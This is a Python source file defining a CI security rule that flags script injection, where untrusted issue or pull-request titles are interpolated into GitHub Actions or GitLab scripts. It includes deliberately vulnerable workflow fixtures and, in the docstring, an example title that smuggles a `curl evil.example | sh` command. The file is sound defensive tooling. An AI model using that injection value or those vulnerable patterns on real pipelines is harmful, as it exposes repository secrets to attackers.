"""Text that anyone may write becomes part of a program of a workflow.

`${{ github.event.issue.title }}` is put into the script before the shell sees it: a title like
`"; curl evil.example | sh; "` is then a command, on a machine that holds the repository's
secrets. GitLab's variables are safe by themselves, and not inside `eval` or `sh -c "…"`.

High where the event runs with secrets or a token that may write (`issues`, `issue_comment`,
`pull_request_target`, `workflow_run`); medium where outsiders only reach it through a pull
request, whose own workflow they could change as well, or a merged commit.

Silent where the text goes through `env:` and the script reads the variable, for contexts
that the workflow's events never fill, and where it is only compared.

Fix: `env: TITLE: ${{ github.event.issue.title }}`, and `"$TITLE"` in the script.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from batten.model import Bad, Finding, Fix, Good, Severity, rule
from batten.understand.infrastructure.ci.nouns import Injection

if TYPE_CHECKING:
    from collections.abc import Iterator

WORKFLOW = """\
on: issues
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "new issue"
          echo "${{ github.event.issue.title }}"  # <- here
"""

SCRIPT = """\
on: [pull_request_target]
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b
        env:
          TITLE: ${{ github.event.pull_request.title }}
        with:
          script: console.log("${{ env.TITLE }}")  # <- here
"""

GITLAB = """\
check:
  script:
    - ssh deploy@shop.example.net "notify '$CI_COMMIT_TITLE'"  # <- here
"""

_PATH = ".github/workflows/check.yml"


@rule(
    id="ci/script-injection",
    severity=Severity.HIGH,
    cwe=94,
    over=Injection,
    sources=[
        "GitHub docs, Security hardening for GitHub Actions: Script injections",
        "zizmor 1.16, template-injection",
        "OWASP Top 10 CI/CD Security Risks, CICD-SEC-4",
    ],
    bad=[
        Bad("a title in a script", {_PATH: WORKFLOW}),
        Bad("the same through `env` in the expression", {_PATH: SCRIPT}),
        Bad("a pipeline of GitLab that gives it to a shell elsewhere", {".gitlab-ci.yml": GITLAB}),
    ],
    good=[
        Good(
            "through the environment",
            {_PATH: WORKFLOW.replace("${{ github.event.issue.title }}", "$TITLE")},
        ),
        Good("it is only compared", {_PATH: WORKFLOW.replace("issue.title }}", "issue.title == 'x' }}")}),
        Good("a number", {_PATH: WORKFLOW.replace("issue.title", "issue.number")}),
        Good("the event never fills it", {_PATH: WORKFLOW.replace("on: issues", "on: workflow_dispatch")}),
        Good(
            "GitLab's shell expands it", {".gitlab-ci.yml": GITLAB.replace('ssh deploy@shop.example.net "', 'echo "')}
        ),
    ],
)
def others_write_the_program(injection: Injection) -> Iterator[Finding]:
    """Yield a finding for each text of outsiders in a program."""
    if injection.outsiders:
        yield Finding(
            injection.at,
            f"{injection.what}, which anyone may write, becomes part of the program in {injection.where}",
            severity=None if injection.privileged else Severity.MEDIUM,
            fix=Fix("hand it over in a variable: `env:` in the step, `$NAME` in the script"),
            symbol=injection.what,
            proof=injection.where,
        )
